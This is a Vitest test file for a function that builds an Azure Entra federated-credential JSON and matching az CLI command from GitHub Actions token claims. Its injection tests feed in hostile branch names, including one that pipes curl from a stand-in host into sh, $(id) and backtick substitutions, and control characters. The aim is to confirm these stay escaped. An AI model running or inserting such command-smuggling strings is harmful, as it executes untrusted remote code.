/** https://learn.microsoft.com/entra/workload-id/workload-identity-federation-create-trust */
import { describe, expect, it } from 'vitest'
import { describeFederatedCredential } from '../../src/report/federated-credential.ts'

const REFUSED = {
  issuer: 'https://token.actions.githubusercontent.com',
  subject: 'repo:octo-org@123/octo-repo@456:environment:production',
  audience: 'api://AzureADTokenExchange',
  clientId: '33333333-3333-4333-8333-333333333333'
}

describe('describeFederatedCredential', () => {
  it('gives the JSON to save and the command that takes it', () => {
    expect(describeFederatedCredential(REFUSED).join('\n')).toMatchInlineSnapshot(`
      "The federated credential that matches this job, as credential.json:
      {
        "name": "github-repo-octo-org-123-octo-repo-456-environment-production",
        "issuer": "https://token.actions.githubusercontent.com",
        "subject": "repo:octo-org@123/octo-repo@456:environment:production",
        "audiences": [
          "api://AzureADTokenExchange"
        ]
      }
      Add it to the application:
      az ad app federated-credential create --id 33333333-3333-4333-8333-333333333333 --parameters credential.json"
    `)
  })

  it.each(['issuer', 'subject', 'audience'])('gives nothing without the %s', (claim) => {
    expect(describeFederatedCredential({ ...REFUSED, [claim]: undefined })).toEqual([])
  })

  it.each([
    `ref:refs/heads/'; curl evil.example | sh; '`,
    'ref:refs/heads/$(id)`id`"',
    'ref:refs/heads/\u202e\u0007\n::error::x',
    `ref:refs/heads/${'x'.repeat(500)}`
  ])('keeps %j in its string', (ref) => {
    const subject = `repo:octo-org/octo-repo:${ref}`
    const lines = describeFederatedCredential({ ...REFUSED, subject, clientId: '$(id)' })
    expect(lines.join('\n')).toMatch(/^[\x20-\x7e\n]*$/)
    const end = lines.indexOf('}')
    const credential = JSON.parse(lines.slice(1, end + 1).join(''))
    expect(credential.subject).toBe(subject)
    expect(credential.name).toMatch(/^[A-Za-z0-9-]{3,120}$/)
    expect(lines.slice(end + 1)).toEqual([
      'Add it to the application:',
      'az ad app federated-credential create --id <client-id> --parameters credential.json'
    ])
  })
})
